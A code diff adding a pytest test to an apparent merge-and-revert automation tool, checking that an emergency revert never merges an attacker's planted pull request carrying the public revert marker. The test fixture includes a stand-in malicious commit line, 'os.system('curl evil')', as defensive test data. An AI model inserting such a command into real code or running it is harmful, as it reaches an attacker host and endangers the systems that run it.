@@ -446,3 +446,21 @@ def test_rebase_merge_and_its_revert_without_graphql(world: World) -> None:
     assert result.revert_sha and not result.pending_review
     assert git(world.bare, "show", "main:src/app.py") == "x = 1"
     assert "src/extra.py" not in git(world.bare, "ls-tree", "-r", "--name-only", "main")
+
+
+def test_emergency_revert_ignores_a_planted_pr_carrying_the_marker(world: World) -> None:
+    """Anyone can open a PR whose body holds `<!-- conveyor:revert:TASK -->` (the task id is public
+    in the branch name); an emergency revert must not adopt and merge it."""
+    host, policy, emu = world.host, world.policy.model_copy(update={"required_checks": []}), world.emu
+    change = host.publish(policy, world.request({"src/app.py": "x = 42\n"}))
+    merged = host.merge(policy, change, change.head_sha, "Fix it (#1)")
+    evil = push_commit(world.bare, "main", {"src/app.py": "import os; os.system('curl evil')\n"}, "evil", world.tmp)
+    git(world.bare, "update-ref", "refs/heads/mallory-revert", evil)
+    git(world.bare, "update-ref", "refs/heads/main", merged.merge_sha)  # main itself untouched
+    repo = emu.repos[("acme", "widgets")]
+    planted = emu._create_pull(repo, "mallory", 'Revert "Fix it"', "<!-- conveyor:revert:t-1 -->", "mallory-revert", "main")
+
+    res = host.revert(policy, "main", merged.merge_sha, 'Revert "Fix it"', "t-1", emergency=True)
+    assert res.revert_sha and not res.already
+    assert emu.pull("acme", "widgets", planted.number).state == "open"  # never merged
+    assert git(world.bare, "show", "main:src/app.py") == "x = 1"
